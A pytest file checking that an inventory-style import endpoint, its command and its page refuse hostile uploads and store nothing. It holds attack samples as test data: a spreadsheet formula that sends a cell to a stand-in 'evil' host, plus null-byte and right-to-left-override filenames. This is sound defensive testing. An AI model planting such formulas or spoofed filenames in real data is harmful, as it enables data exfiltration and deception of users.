# SPDX-FileCopyrightText: 2026 Soglia contributors
# SPDX-License-Identifier: AGPL-3.0-or-later
"""Files that somebody made to break us: the same refusal on both databases, by program, page and command; a line and a
reason for each row; and nothing is stored."""

import io
import json
import logging
from base64 import b64encode
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest
import sqlalchemy as sa
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from app.catalogue.models import Item
from app.db import db
from app.errors import DomainError
from tests.browsing import sign_in, token_of
from tests.commands import run
from tests.hostile.conftest import Both, Target, assert_not_in_log
from tests.hostile.files import FILES, REFUSED, Sent


def body(one: Sent, target: Target, **more: Any) -> bytes:
    """The file as a program sends it to the point."""
    site = {"site_id": str(target.world.point)} if one.kind == "stock" else {}
    sent = {"id": str(uuid4()), "kind": one.kind, "name": one.file, "content_base64": b64encode(one.content).decode()}
    return json.dumps(sent | site | more).encode()


@pytest.mark.parametrize("one", FILES, ids=lambda one: one.name)
def test_a_poisoned_file_is_refused_by_line_and_nothing_is_stored(
    one: Sent, both: Both, caplog: pytest.LogCaptureFixture
) -> None:
    answers = []
    for target in both.targets.values():
        before = target.counts()
        with caplog.at_level(logging.DEBUG):
            answer = target.post("/imports", body(one, target), by="ambito" if one.kind == "donors" else "admin")
        assert target.counts() == before
        assert set(answer.json) <= {"code", "message", "fields", "details"}
        assert (answer.status_code, answer.json["code"]) == one.answer, answer.json
        assert one.says in json.dumps(answer.json, ensure_ascii=False)
        faults = answer.json.get("details", {}).get("faults", [])
        assert sorted({fault["line"] for fault in faults}) == one.lines
        assert all(fault["message"] for fault in faults)
        answers.append(answer.json)
    assert answers[0] == answers[1], "two databases, one answer"
    assert_not_in_log(caplog, one.content)


@pytest.mark.parametrize("one", [one for one in FILES if one.content], ids=lambda one: one.name)
def test_the_command_and_the_page_refuse_it_as_well(one: Sent, both: Both, tmp_path: Path) -> None:
    path = tmp_path / (one.file if "/" not in one.file else "passwd")
    path.write_bytes(one.content)
    for target in both.targets.values():
        before = target.counts()
        with target.database.app.app_context():
            site = ["--site", db.session.scalar(sa.text("SELECT code FROM site WHERE name = 'Punto La Sosta'"))]
            db.session.remove()
        done = run(target.database, "import", one.kind, str(path), *(site if one.kind == "stock" else []))
        if one.answer == REFUSED:
            assert done.exit_code == 1
            told = {line.split()[1].strip(",:") for line in done.stdout.splitlines() if line.startswith("line ")}
            assert told == set(map(str, one.lines))
        else:
            assert isinstance(done.exception, DomainError) and done.exception.code == one.answer[1]
        assert upload(target, one).status_code in (200, one.answer[0])
        assert {name: count for name, count in target.counts().items() if name != "operator_session"} == {
            name: count for name, count in before.items() if name != "operator_session"
        }


def upload(target: Target, one: Sent) -> Any:
    """Send the file by the page."""
    client = target.database.app.test_client()
    sign_in(client, "ambito" if one.kind == "donors" else "admin")
    file = FileStorage(io.BytesIO(one.content), filename=one.file, name="file")
    form = {"csrf_token": token_of(client, "/more"), "kind": one.kind, "site": str(target.world.point), "file": file}
    boundary, sent = encode_multipart(form)
    answer = client.post("/imports/check", data=sent, content_type=f"multipart/form-data; boundary={boundary}")
    assert b"Traceback" not in answer.data and answer.status_code < 500
    return answer


def test_a_formula_is_kept_as_it_was_typed_and_leaves_as_text(both: Both) -> None:
    evil = '=HYPERLINK("http://evil/?"&A1,"x")'
    content = f'code,name,category\r\nEVIL,"{evil.replace(chr(34), chr(34) * 2)}",letto\r\n'.encode()
    for target in both.targets.values():
        sent = Sent("formula", content, (201, ""), "", kind="items")
        assert target.post("/imports", body(sent, target), by="admin").status_code == 201
        with target.database.app.app_context():
            assert db.session.scalar(sa.select(Item.name).where(Item.sku == "EVIL")) == evil
            db.session.remove()
        client = target.database.app.test_client()
        sign_in(client, "admin")
        assert "'=HYPERLINK" in client.get("/items.csv").data.decode("utf-8-sig")
        again = target.post("/imports", body(sent, target), by="admin")
        assert (again.status_code, again.json["code"]) == (409, "already_imported"), "the same file twice"


GOOD = {"kind": "items", "name": "x.csv", "content_base64": b64encode(b"code,name,category\r\nZ1,a,letto\r\n").decode()}


@pytest.mark.parametrize(
    ("changed", "named"),
    [
        ({"id": 7}, "id"),
        ({"id": "1" * 36}, "id"),
        ({"kind": "people"}, "kind"),
        ({"kind": ["items"]}, "kind"),
        ({"kind": None}, "kind"),
        ({"name": ""}, "name"),
        ({"name": "a\u0000.csv"}, "name"),
        ({"name": "\u202egnp.csv"}, "name"),
        ({"name": "x" * 201}, "name"),
        ({"name": 1}, "name"),
        ({"content_base64": "%%%"}, "content_base64"),
        ({"content_base64": "YQ=\n="}, "content_base64"),
        ({"content_base64": "\u00e9"}, "content_base64"),
        ({"content_base64": ["YQ=="]}, "content_base64"),
        ({"content_base64": None}, "content_base64"),
        ({"site_id": "here"}, "site_id"),
        ({"dry_run": "maybe"}, "dry_run"),
        ({"partial": [1]}, "partial"),
        ({"again": {}}, "again"),
        ({"encoding": "utf-7"}, "encoding"),
    ],
    ids=str,
)
def test_a_body_of_the_wrong_shape_is_refused_by_field(changed: dict[str, Any], named: str, both: Both) -> None:
    sent = json.dumps({"id": str(uuid4())} | GOOD | changed)
    assert both.refuse("/imports", sent, names=named, by="admin")[0] == 422


def test_a_body_beyond_four_megabytes_is_too_large_and_a_stranger_sends_none(both: Both) -> None:
    sent = json.dumps({"id": str(uuid4())} | GOOD | {"content_base64": "A" * 4_300_000})
    assert both.refuse("/imports", sent, by="admin") == (413, "too_large")
    assert both.refuse("/imports", json.dumps({"id": str(uuid4())} | GOOD), by=None) == (401, "not_signed_in")
    assert both.refuse("/imports", json.dumps({"id": str(uuid4())} | GOOD), by="operatore") == (403, "forbidden")
